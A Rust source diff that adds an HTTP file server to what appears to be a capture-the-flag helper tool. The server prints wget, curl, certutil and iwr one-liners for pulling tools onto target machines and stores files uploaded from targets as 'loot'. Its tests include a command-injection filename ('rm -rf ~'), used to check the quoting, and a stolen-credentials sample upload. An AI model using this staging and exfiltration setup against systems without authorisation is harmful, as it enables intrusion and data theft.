@@ -0,0 +1,582 @@
+use crate::config::Config;
+use crate::models::{Action, ActionResult};
+use crate::payloads::url_encode;
+use crate::quote;
+use anyhow::{Context, Result};
+use std::collections::HashMap;
+use std::io::{BufRead, BufReader, Read, Seek, SeekFrom, Write};
+use std::net::{IpAddr, Shutdown, SocketAddr, TcpListener, TcpStream};
+use std::path::{Path, PathBuf};
+use std::time::Duration;
+
+/// Largest upload accepted, in bytes
+const MAX_UPLOAD: u64 = 512 * 1024 * 1024;
+
+/// Start of a multipart body searched for the part headers
+const MULTIPART_HEAD: u64 = 64 * 1024;
+
+/// Longest request line or header line, in bytes
+const MAX_LINE: u64 = 8 * 1024;
+
+/// Most headers in a request
+const MAX_HEADERS: usize = 100;
+
+/// A client silent for longer is dropped, so that it doesn't hold a thread
+const READ_TIMEOUT: Duration = Duration::from_secs(30);
+
+/// What `ctf-brain serve` serves and where
+pub struct Server {
+    pub box_id: i32,
+    pub root: PathBuf,
+    pub address: IpAddr,
+    pub port: u16,
+    /// PUT and POST requests are stored in the box's loot
+    pub uploads: bool,
+    pub config: Config,
+}
+
+/// A parsed request: method, decoded path and headers (lowercase names)
+struct Request {
+    method: String,
+    path: String,
+    headers: HashMap<String, String>,
+}
+
+impl Server {
+    fn url(&self, name: &str) -> String {
+        format!("http://{}:{}/{}", self.address, self.port, name)
+    }
+
+    /// Commands fetching a file, with its name quoted for each shell
+    fn download_commands(&self, name: &str) -> [String; 4] {
+        let url = self.url(&url_encode(name));
+        let target = quote::sh(&format!("/tmp/{}", name));
+        [
+            format!("wget {} -O {}", url, target),
+            format!("curl -o {} {}", target, url),
+            format!("certutil -urlcache -split -f {} {}", url, quote::cmd(name)),
+            format!("iwr {} -OutFile {}", url, quote::powershell(name)),
+        ]
+    }
+
+    /// Ready-made commands to fetch each file of the directory from a target
+    pub fn print_one_liners(&self) -> Result<()> {
+        let mut files: Vec<String> = std::fs::read_dir(&self.root)
+            .with_context(|| format!("Failed to read {}", self.root.display()))?
+            .filter_map(|entry| entry.ok())
+            .filter(|entry| entry.path().is_file())
+            .map(|entry| entry.file_name().to_string_lossy().to_string())
+            .collect();
+        files.sort();
+
+        for name in &files {
+            println!("📄 {}", name);
+            for command in self.download_commands(name) {
+                println!("   {}", command);
+            }
+        }
+        if self.uploads {
+            let url = self.url("");
+            println!("📤 Uploads go to the loot of box {}", self.box_id);
+            println!("   curl -T <file> {}", url);
+            println!("   wget --method=PUT --body-file=<file> {}<file>", url);
+            println!("   iwr {}<file> -Method Put -InFile <file>", url);
+        }
+        Ok(())
+    }
+
+    /// Serve until killed, one thread per connection
+    pub fn run(self) -> Result<()> {
+        let listener = TcpListener::bind((self.address, self.port))
+            .with_context(|| format!("Failed to listen on {}:{}", self.address, self.port))?;
+        eprintln!(
+            "🌐 Serving {} on http://{}:{} for box {} (Ctrl+C to stop)",
+            self.root.display(),
+            self.address,
+            self.port,
+            self.box_id
+        );
+
+        let server = std::sync::Arc::new(self);
+        for stream in listener.incoming() {
+            let Ok(stream) = stream else {
+                continue;
+            };
+            let server = server.clone();
+            std::thread::spawn(move || {
+                let peer = stream.peer_addr().ok();
+                if let (Err(e), Some(peer)) = (server.handle(stream), peer) {
+                    eprintln!("✗ {}: {}", peer, e);
+                }
+            });
+        }
+        Ok(())
+    }
+
+    fn handle(&self, stream: TcpStream) -> Result<()> {
+        let peer = stream.peer_addr()?;
+        stream.set_read_timeout(Some(READ_TIMEOUT))?;
+        let mut reader = BufReader::new(stream.try_clone()?);
+        let mut stream = stream;
+        let request = match read_request(&mut reader) {
+            Ok(Some(request)) => request,
+            Ok(None) => return Ok(()),
+            Err(status) => {
+                let body = format!("{}\n", reason(status));
+                let _ = respond(&mut stream, status, "text/plain", body.as_bytes());
+                // Closing with unread data resets the connection, and the
+                // client may lose the answer: read a bit of what it still sends
+                let _ = stream.shutdown(Shutdown::Write);
+                let _ = stream.set_read_timeout(Some(Duration::from_secs(1)));
+                let _ = std::io::copy(&mut (&mut stream).take(8 * MAX_LINE), &mut std::io::sink());
+                anyhow::bail!("{} {}", status, reason(status));
+            }
+        };
+
+        let (status, detail) = match request.method.as_str() {
+            "GET" | "HEAD" => self.download(&mut stream, &request)?,
+            "PUT" | "POST" if self.uploads => self.upload(&mut stream, &mut reader, &request, peer)?,
+            _ => {
+                respond(&mut stream, 405, "text/plain", b"Method not allowed\n")?;
+                (405, String::new())
+            }
+        };
+
+        let agent = request.headers.get("user-agent").map_or("-", String::as_str);
+        eprintln!("{} {} {} {} {}", peer.ip(), request.method, request.path, status, detail);
+        let action = Action {
+            timestamp: chrono::Utc::now(),
+            command: format!("serve {} {}", request.method, request.path),
+            result: if status < 400 {
+                ActionResult::Success
+            } else {
+                ActionResult::Fail
+            },
+            note: Some(format!("{} from {} ({}) {}", status, peer.ip(), agent, detail).trim_end().to_string()),
+            output: None,
+        };
+        crate::storage::log_action(self.box_id, &action, &self.config)
+    }
+
+    /// A file, or the listing of a directory. Paths outside the root are
+    /// not found.
+    fn download(&self, stream: &mut TcpStream, request: &Request) -> Result<(u16, String)> {
+        let path = self.root.join(request.path.trim_start_matches('/'));
+        let inside = path
+            .canonicalize()
+            .ok()
+            .filter(|p| self.root.canonicalize().is_ok_and(|root| p.starts_with(root)));
+        let head = request.method == "HEAD";
+
+        match inside {
+            Some(path) if path.is_file() => {
+                let mut file = std::fs::File::open(&path)?;
+                let size = file.metadata()?.len();
+                write!(
+                    stream,
+                    "HTTP/1.0 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
+                    size
+                )?;
+                if !head {
+                    std::io::copy(&mut file, stream)?;
+                }
+                Ok((200, format!("{} bytes", size)))
+            }
+            Some(path) if path.is_dir() => {
+                let body = listing(&path, &request.path)?;
+                respond(stream, 200, "text/html; charset=utf-8", if head { b"" } else { body.as_bytes() })?;
+                Ok((200, String::new()))
+            }
+            _ => {
+                respond(stream, 404, "text/plain", b"Not found\n")?;
+                Ok((404, String::new()))
+            }
+        }
+    }
+
+    /// Store the body (or the file of a multipart form) in the loot. It is
+    /// written to a temporary file first, not kept in memory.
+    fn upload(
+        &self,
+        stream: &mut TcpStream,
+        reader: &mut impl Read,
+        request: &Request,
+        peer: SocketAddr,
+    ) -> Result<(u16, String)> {
+        let Some(length) = request
+            .headers
+            .get("content-length")
+            .and_then(|l| l.parse::<u64>().ok())
+        else {
+            respond(stream, 411, "text/plain", b"Content-Length required\n")?;
+            return Ok((411, String::new()));
+        };
+        if length > MAX_UPLOAD {
+            respond(stream, 413, "text/plain", b"Too large\n")?;
+            return Ok((413, String::new()));
+        }
+        // curl waits for this before sending larger files
+        if request
+            .headers
+            .get("expect")
+            .is_some_and(|e| e.eq_ignore_ascii_case("100-continue"))
+        {
+            stream.write_all(b"HTTP/1.1 100 Continue\r\n\r\n")?;
+        }
+        let mut body = tempfile::tempfile().context("Failed to create a temporary file")?;
+        let received = std::io::copy(&mut reader.take(length), &mut body)?;
+        if received < length {
+            anyhow::bail!("Upload cut short ({} of {} bytes)", received, length);
+        }
+
+        let path_name = Path::new(&request.path)
+            .file_name()
+            .map(|n| n.to_string_lossy().to_string());
+        let content_type = request.headers.get("content-type").map_or("", String::as_str);
+        let (name, start, end) = match multipart_file(content_type, &mut body, length)? {
+            Some((name, start, end)) => (name.or(path_name), start, end),
+            None => (path_name, 0, length),
+        };
+        let name = name.unwrap_or_else(|| format!("upload-{}", chrono::Local::now().format("%Y%m%d-%H%M%S")));
+
+        body.seek(SeekFrom::Start(start))?;
+        let attachment = crate::storage::add_loot_reader(
+            self.box_id,
+            &name,
+            &mut (&mut body).take(end - start),
+            format!("upload from {}", peer.ip()),
+            None,
+            &self.config,
+        )?;
+        respond(stream, 201, "text/plain", b"Stored\n")?;
+        Ok((201, format!("{} stored ({} bytes)", attachment.name, attachment.size)))
+    }
+}
+
+/// Request line and headers. None when the client sent nothing, the
+/// status to answer with when they are too long or cannot be read.
+fn read_request(reader: &mut impl BufRead) -> Result<Option<Request>, u16> {
+    let mut line = String::new();
+    let read = read_line(reader, &mut line).map_err(|status| match status {
+        431 => 414,
+        status => status,
+    })?;
+    if read == 0 {
+        return Ok(None);
+    }
+    let mut parts = line.split_whitespace();
+    let method = parts.next().unwrap_or_default().to_uppercase();
+    let target = parts.next().unwrap_or("/");
+    let path = url_decode(target.split(['?', '#']).next().unwrap_or("/"));
+
+    let mut headers = HashMap::new();
+    for count in 0.. {
+        line.clear();
+        if read_line(reader, &mut line)? == 0 || line.trim().is_empty() {
+            break;
+        }
+        if count == MAX_HEADERS {
+            return Err(431);
+        }
+        if let Some((name, value)) = line.split_once(':') {
+            headers.insert(name.trim().to_lowercase(), value.trim().to_string());
+        }
+    }
+    Ok(Some(Request { method, path, headers }))
+}
+
+/// One line of the request head, of at most `MAX_LINE` bytes: 431 when
+/// it is longer, 408 when the client stopped sending, 400 otherwise
+fn read_line(reader: &mut impl BufRead, line: &mut String) -> Result<usize, u16> {
+    let status = |e: std::io::Error| -> u16 {
+        match e.kind() {
+            std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut => 408,
+            _ => 400,
+        }
+    };
+    let read = (&mut *reader).take(MAX_LINE + 1).read_line(line).map_err(status)?;
+    if read as u64 > MAX_LINE {
+        return Err(431);
+    }
+    Ok(read)
+}
+
+fn reason(status: u16) -> &'static str {
+    match status {
+        200 => "OK",
+        201 => "Created",
+        400 => "Bad Request",
+        404 => "Not Found",
+        405 => "Method Not Allowed",
+        408 => "Request Timeout",
+        411 => "Length Required",
+        413 => "Payload Too Large",
+        414 => "URI Too Long",
+        431 => "Request Header Fields Too Large",
+        _ => "",
+    }
+}
+
+fn respond(stream: &mut TcpStream, status: u16, content_type: &str, body: &[u8]) -> Result<()> {
+    write!(
+        stream,
+        "HTTP/1.0 {} {}\r\nContent-Type: {}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
+        status,
+        reason(status),
+        content_type,
+        body.len()
+    )?;
+    stream.write_all(body)?;
+    Ok(())
+}
+
+fn listing(dir: &Path, path: &str) -> Result<String> {
+    let mut entries: Vec<(String, &str)> = std::fs::read_dir(dir)?
+        .filter_map(|entry| entry.ok())
+        .map(|entry| {
+            let slash = if entry.path().is_dir() { "/" } else { "" };
+            (entry.file_name().to_string_lossy().to_string(), slash)
+        })
+        .collect();
+    entries.sort();
+    let base = path.trim_end_matches('/');
+    let items: String = entries
+        .iter()
+        .map(|(name, slash)| {
+            format!(
+                "<li><a href=\"{}/{}{}\">{}{}</a></li>\n",
+                base,
+                url_encode(name),
+                slash,
+                html_escape(name),
+                slash
+            )
+        })
+        .collect();
+    Ok(format!(
+        "<html><body><h1>{}</h1><ul>\n{}</ul></body></html>\n",
+        html_escape(path),
+        items
+    ))
+}
+
+/// The file part of a `multipart/form-data` body (`curl -F file=@x`):
+/// its name and where its content starts and ends in the body
+fn multipart_file(
+    content_type: &str,
+    body: &mut std::fs::File,
+    length: u64,
+) -> Result<Option<(Option<String>, u64, u64)>> {
+    let Some(boundary) = content_type
+        .strip_prefix("multipart/form-data")
+        .and_then(|params| params.split(';').find_map(|p| p.trim().strip_prefix("boundary=")))
+    else {
+        return Ok(None);
+    };
+    let delimiter = format!("--{}", boundary.trim_matches('"')).into_bytes();
+
+    let mut head = Vec::new();
+    body.seek(SeekFrom::Start(0))?;
+    (&mut *body).take(MULTIPART_HEAD).read_to_end(&mut head)?;
+    let Some(part) = find(&head, &delimiter).map(|i| i + delimiter.len()) else {
+        return Ok(None);
+    };
+    let Some(headers_end) = find(&head[part..], b"\r\n\r\n").map(|i| part + i) else {
+        return Ok(None);
+    };
+    let start = headers_end as u64 + 4;
+    let closing = [b"\r\n".as_slice(), &delimiter].concat();
+    let Some(end) = find_in_file(body, &closing, start, length)? else {
+        return Ok(None);
+    };
+
+    let headers = String::from_utf8_lossy(&head[part..headers_end]);
+    let name = headers
+        .split(';')
+        .find_map(|p| p.trim().strip_prefix("filename="))
+        .map(|n| n.lines().next().unwrap_or_default().trim_matches('"').to_string())
+        .filter(|n| !n.is_empty());
+    Ok(Some((name, start, end)))
+}
+
+fn find(haystack: &[u8], needle: &[u8]) -> Option<usize> {
+    haystack.windows(needle.len()).position(|w| w == needle)
+}
+
+/// Offset of the first `needle` between `from` and `to`, read in chunks
+/// that overlap so that a match across two of them is found
+fn find_in_file(file: &mut std::fs::File, needle: &[u8], from: u64, to: u64) -> Result<Option<u64>> {
+    let mut offset = from;
+    let mut chunk = Vec::new();
+    while offset < to {
+        chunk.clear();
+        file.seek(SeekFrom::Start(offset))?;
+        (&mut *file).take((to - offset).min(MULTIPART_HEAD)).read_to_end(&mut chunk)?;
+        if let Some(i) = find(&chunk, needle) {
+            return Ok(Some(offset + i as u64));
+        }
+        if chunk.len() < needle.len() || offset + chunk.len() as u64 >= to {
+            break;
+        }
+        offset += (chunk.len() - needle.len() + 1) as u64;
+    }
+    Ok(None)
+}
+
+fn url_decode(text: &str) -> String {
+    let bytes = text.as_bytes();
+    let mut decoded = Vec::with_capacity(bytes.len());
+    let mut i = 0;
+    while i < bytes.len() {
+        let hex = bytes
+            .get(i + 1..i + 3)
+            .and_then(|h| std::str::from_utf8(h).ok())
+            .and_then(|h| u8::from_str_radix(h, 16).ok());
+        match (bytes[i], hex) {
+            (b'%', Some(byte)) => {
+                decoded.push(byte);
+                i += 3;
+            }
+            (byte, _) => {
+                decoded.push(byte);
+                i += 1;
+            }
+        }
+    }
+    String::from_utf8_lossy(&decoded).into_owned()
+}
+
+fn html_escape(text: &str) -> String {
+    text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn server(base: &Path) -> Server {
+        let mut config = Config::default();
+        config.paths.base_dir = base.display().to_string();
+        Server {
+            box_id: 3,
+            root: base.to_path_buf(),
+            address: "10.10.14.2".parse().unwrap(),
+            port: 8000,
+            uploads: true,
+            config,
+        }
+    }
+
+    /// Send a raw request to `handle` and return the response
+    fn exchange(server: &Server, request: &[u8]) -> String {
+        let listener = TcpListener::bind(("127.0.0.1", 0)).unwrap();
+        let address = listener.local_addr().unwrap();
+        let request = request.to_vec();
+        let client = std::thread::spawn(move || {
+            let mut stream = TcpStream::connect(address).unwrap();
+            stream.write_all(&request).unwrap();
+            stream.shutdown(std::net::Shutdown::Write).unwrap();
+            let mut response = String::new();
+            stream.read_to_string(&mut response).unwrap();
+            response
+        });
+        let (stream, _) = listener.accept().unwrap();
+        let _ = server.handle(stream);
+        client.join().unwrap()
+    }
+
+    fn body_file(bytes: &[u8]) -> std::fs::File {
+        let mut file = tempfile::tempfile().unwrap();
+        file.write_all(bytes).unwrap();
+        file
+    }
+
+    #[test]
+    fn download_commands_quote_the_file_name() {
+        let base = tempfile::tempdir().unwrap();
+        let [wget, curl, certutil, iwr] = server(base.path()).download_commands("it's; rm -rf ~");
+        assert_eq!(
+            wget,
+            r"wget http://10.10.14.2:8000/it%27s%3B%20rm%20-rf%20~ -O '/tmp/it'\''s; rm -rf ~'"
+        );
+        assert!(curl.starts_with(r"curl -o '/tmp/it'\''s; rm -rf ~' http://"));
+        assert!(certutil.ends_with(r#" "it's; rm -rf ~""#));
+        assert!(iwr.ends_with(" -OutFile 'it''s; rm -rf ~'"));
+    }
+
+    #[test]
+    fn multipart_file_is_found_across_chunks() {
+        let content = vec![b'A'; MULTIPART_HEAD as usize + 100];
+        let mut body = b"--xyz\r\nContent-Disposition: form-data; name=\"file\"; filename=\"big.bin\"\r\n\r\n".to_vec();
+        let start = body.len() as u64;
+        body.extend_from_slice(&content);
+        body.extend_from_slice(b"\r\n--xyz--\r\n");
+        let mut file = body_file(&body);
+
+        let found = multipart_file("multipart/form-data; boundary=xyz", &mut file, body.len() as u64).unwrap();
+        assert_eq!(
+            found,
+            Some((Some("big.bin".to_string()), start, start + content.len() as u64))
+        );
+        assert_eq!(multipart_file("application/octet-stream", &mut file, 10).unwrap(), None);
+    }
+
+    #[test]
+    fn upload_is_stored_in_the_loot() {
+        let base = tempfile::tempdir().unwrap();
+        let server = server(base.path());
+        let response = exchange(&server, b"PUT /creds.txt HTTP/1.1\r\nContent-Length: 13\r\n\r\nadmin:hunter2");
+        assert!(response.starts_with("HTTP/1.0 201"));
+
+        let loot = crate::storage::load_loot_index(3, &server.config).unwrap();
+        assert_eq!(loot.len(), 1);
+        assert_eq!(loot[0].name, "creds.txt");
+        assert_eq!(loot[0].size, 13);
+        let blob = crate::storage::loot_blob_path(3, &loot[0].sha256, &server.config).unwrap();
+        assert_eq!(std::fs::read(blob).unwrap(), b"admin:hunter2");
+    }
+
+    #[test]
+    fn request_head_is_limited() {
+        let read = |head: &[u8]| read_request(&mut BufReader::new(head)).map(|r| r.map(|r| r.path));
+        let long = "A".repeat(MAX_LINE as usize);
+        assert_eq!(read(b""), Ok(None));
+        assert_eq!(read(b"GET /a%20b?x=1 HTTP/1.1\r\nHost: x\r\n\r\n"), Ok(Some("/a b".to_string())));
+        assert_eq!(read(format!("GET /{} HTTP/1.1\r\n\r\n", long).as_bytes()), Err(414));
+        assert_eq!(read(format!("GET / HTTP/1.1\r\nCookie: {}\r\n\r\n", long).as_bytes()), Err(431));
+        // Without a line end, as from a client that never stops
+        assert_eq!(read(format!("GET / HTTP/1.1\r\nX: {}", long).as_bytes()), Err(431));
+
+        let headers = |count: usize| format!("GET / HTTP/1.1\r\n{}\r\n", "X-A: b\r\n".repeat(count));
+        assert!(read(headers(MAX_HEADERS).as_bytes()).is_ok());
+        assert_eq!(read(headers(MAX_HEADERS + 1).as_bytes()), Err(431));
+    }
+
+    #[test]
+    fn silent_client_times_out() {
+        struct Silent;
+        impl Read for Silent {
+            fn read(&mut self, _: &mut [u8]) -> std::io::Result<usize> {
+                Err(std::io::ErrorKind::WouldBlock.into())
+            }
+        }
+        assert_eq!(read_request(&mut BufReader::new(Silent)).err(), Some(408));
+    }
+
+    #[test]
+    fn oversized_request_is_refused() {
+        let base = tempfile::tempdir().unwrap();
+        let server = server(base.path());
+        let request = format!("GET /{} HTTP/1.1\r\n\r\n", "A".repeat(MAX_LINE as usize));
+        let response = exchange(&server, request.as_bytes());
+        assert!(response.starts_with("HTTP/1.0 414 URI Too Long\r\n"));
+    }
+
+    #[test]
+    fn short_upload_stores_nothing() {
+        let base = tempfile::tempdir().unwrap();
+        let server = server(base.path());
+        exchange(&server, b"PUT /x HTTP/1.1\r\nContent-Length: 100\r\n\r\nshort");
+        assert!(crate::storage::load_loot_index(3, &server.config).unwrap().is_empty());
+    }
+}